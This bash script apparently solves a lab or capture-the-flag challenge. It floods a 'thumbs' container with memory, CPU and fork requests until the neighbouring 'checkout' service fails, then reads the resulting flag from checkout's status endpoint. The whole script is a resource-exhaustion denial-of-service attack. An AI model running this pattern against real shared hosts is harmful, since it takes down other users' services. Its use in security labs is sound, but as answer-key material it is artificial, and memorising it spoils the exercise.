#!/bin/bash
# thumbs takes memory, processor time and every process number there is, until checkout cannot serve its customers.
thumbs=http://dockerhost:8083
status() { curl --silent --max-time 2 http://dockerhost:8080/status; }

# What an earlier attack did to checkout must not count for this one: it shows an incident for 20 seconds.
for _ in {1..60}; do
  [[ $(status) == *'"flag"'* ]] || break
  sleep 0.5
done

curl --silent --max-time 20 "$thumbs/alloc?mb=600&s=10" >/dev/null &
curl --silent --max-time 20 "$thumbs/burn?s=10&t=16" >/dev/null &
sleep 1
curl --silent --max-time 20 "$thumbs/fork?n=5000&s=8" >/dev/null &

for _ in {1..30}; do
  seen=$(status)
  if [[ $seen == *'"flag"'* ]]; then
    printf '%s\n' "$seen"
    exit 0
  fi
  sleep 0.5
done
echo 'checkout did not suffer' >&2
exit 1
